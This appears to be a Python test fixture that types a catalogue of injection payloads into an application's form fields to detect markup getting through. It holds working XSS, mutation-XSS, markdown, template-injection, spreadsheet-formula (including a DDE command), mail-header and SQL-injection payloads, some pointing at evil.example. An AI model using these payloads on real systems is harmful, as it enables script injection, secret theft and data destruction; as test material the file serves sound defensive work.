"""What people type who want a script of theirs to run in somebody else's browser, spreadsheet, mail or log.

A tag of a payload has an attribute or a name with `pwn` in it, and a script of one sets `window.__pwned`: where either
is found in a page, what was typed came through as markup.
"""

from __future__ import annotations

from itertools import count

JS = "window.__pwned=1"

TAGS = (
    f"<script pwn>{JS}</script>",
    f"<ScRiPt pwn>{JS}</sCrIpT>",
    f"<script pwn src=data:text/javascript,{JS}></script>",
    f"<script/pwn>{JS}//",
    f"<img pwn src=x onerror={JS}>",
    "<img pwn src=x:x onerror=alert(1)//",
    f"<svg pwn onload={JS}>",
    f"<svg pwn><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg pwn><script>{JS}</script></svg>",
    f"<svg pwn><a xlink:href=javascript:{JS}><text y=20>x</text></a>",
    f'<svg pwn><use href="data:image/svg+xml,<svg id=x onload={JS}>#x">',
    f"<body pwn onload={JS}>",
    f"<iframe pwn src=javascript:{JS}></iframe>",
    "<iframe pwn srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<object pwn data=javascript:{JS}></object>",
    f"<embed pwn src=javascript:{JS}>",
    f"<details pwn open ontoggle={JS}>",
    f"<input pwn autofocus onfocus={JS}>",
    f"<select pwn autofocus onfocus={JS}>",
    f"<video pwn><source onerror={JS}></video>",
    f"<audio pwn src=x onerror={JS}>",
    f"<marquee pwn onstart={JS}>",
    f"<a pwn href=javascript:{JS}>x</a>",
    f'<a pwn href="jav&#x09;ascript:{JS}">x</a>',
    f"<form pwn action=javascript:{JS}><button>x</button></form>",
    f"<button pwn formaction=javascript:{JS}>x</button>",
    f"<isindex pwn type=image src=1 onerror={JS}>",
    "<base pwn href=//evil.example/>",
    f"<meta pwn http-equiv=refresh content=0;url=javascript:{JS}>",
    "<link pwn rel=stylesheet href=//evil.example/x.css>",
    "<style pwn>*{background:url(//evil.example/)}</style>",
    "<template pwn><script>1</script></template>",
    f"<pwn-x onclick={JS} style=position:fixed;inset:0>",
    f"<div pwn hx-get=/ hx-trigger=load hx-on:load={JS}>",
    f"<div pwn hx-on::after-request={JS} data-hx-get=/>",
)
BREAKOUTS = (
    f'"><script pwn>{JS}</script>',
    f"'><script pwn>{JS}</script>",
    f"--><script pwn>{JS}</script><!--",
    f"</title><script pwn>{JS}</script>",
    f"</textarea><script pwn>{JS}</script>",
    f"</script><script pwn>{JS}</script>",
    f"</style></noscript><img pwn src=x onerror={JS}>",
    f"</option></select><img pwn src=x onerror={JS}>",
    f"]]><img pwn src=x onerror={JS}>",
    f'" onmouseover={JS} autofocus onfocus={JS} pwn="',
    f"' onmouseover={JS} autofocus onfocus={JS} pwn='",
    f"` onmouseover={JS} pwn=`",
    f"x onfocus={JS} autofocus pwn=",
    f'"}};{JS};//',
    f"';{JS};//",
    f'\\";{JS};//',
    f"</svg><img pwn src=x onerror={JS}>",
    "<!--<script pwn>",
    f"<![CDATA[<img pwn src=x onerror={JS}>]]>",
)
# What is harmless until a browser, or a cleaner, reads it a second time.
MUTATED = (
    f'<noscript><p title="</noscript><img pwn src=x onerror={JS}>">',
    f"<math><mtext><table><mglyph><style><img pwn src=x onerror={JS}>",
    f'<svg></p><style><a id="</style><img pwn src=x onerror={JS}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img pwn src onerror={JS}>",
    f"<p>&lt;img pwn src=x onerror={JS}&gt;</p>",
    f"&lt;script pwn&gt;{JS}&lt;/script&gt;",
    f"&amp;lt;script pwn&amp;gt;{JS}&amp;lt;/script&amp;gt;",
    f"&#60;script pwn&#62;{JS}&#60;/script&#62;",
    f"%3Cscript pwn%3E{JS}%3C/script%3E",
    f"\\u003cscript pwn\\u003e{JS}\\u003c/script\\u003e",
    f"\\x3cscript pwn\\x3e{JS}\\x3c/script\\x3e",
    f"＜script pwn＞{JS}＜/script＞",
    f"<scr<script>ipt pwn>{JS}</scr</script>ipt>",
    f"<a\u200b pwn><\u202escript pwn>{JS}",
)
MARKDOWN = (
    f"[x](javascript:{JS})",
    f"[x](JaVaScRiPt&colon;{JS})",
    f"[x](java\tscript:{JS})",
    f"[x](&#106;avascript:{JS})",
    f"[x](data:text/html,<script>{JS}</script>)",
    f"[x](vbscript:{JS})",
    f'![x](x"onerror={JS})',
    f"![x](javascript:{JS})",
    f'[x](https://example.org/"onmouseover={JS})',
    f"[x]: javascript:{JS}",
    f"<javascript:{JS}>",
    f"`<img pwn src=x onerror={JS}>`",
    f"[<img pwn src=x onerror={JS}>](https://example.org)",
    f"[x](//evil.example 'a\"onclick={JS}')",
)
TEMPLATES = (
    *("{{ 7|add:7 }}", "{% debug %}", "{{ settings.SECRET_KEY }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%n%x"),
    *("%(secret)s", "{0.__class__}", "{{constructor.constructor('window.__pwned=1')()}}"),
)
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "＝1+1", "'=1+1", '"=1+1', ";=1+1", ",=1+1")
HEADERS = ("a\r\nBcc: pwn@evil.example", "a\nSubject: pwn", "a%0d%0aSet-Cookie: pwn=1", "a\u2028pwn")
SQL = ("' OR '1'='1", "'; DROP TABLE wizards_session; --", "\\", "%_%")
CORPUS = (*TAGS, *BREAKOUTS, *MUTATED, *MARKDOWN, *TEMPLATES, *HEADERS, *SQL)
LONGEST = max(map(len, CORPUS))


class Attempts:
    """Types attempts into fields: each field gets as many as fit, and the fields together get all of them.

    attempts(field, longest) -> a text of at most `longest` characters that begins like a formula
    """

    def __init__(self) -> None:
        self._turn = count()
        self._at = 0
        self.tried: set[str] = set()

    def __call__(self, field: str, longest: int) -> str:
        typed = FORMULAS[next(self._turn) % len(FORMULAS)]
        for _ in CORPUS:
            attempt = CORPUS[self._at % len(CORPUS)]
            if len(typed) + 1 + len(attempt) > longest:
                break
            typed += f" {attempt}"
            self.tried.add(attempt)
            self._at += 1
        return typed
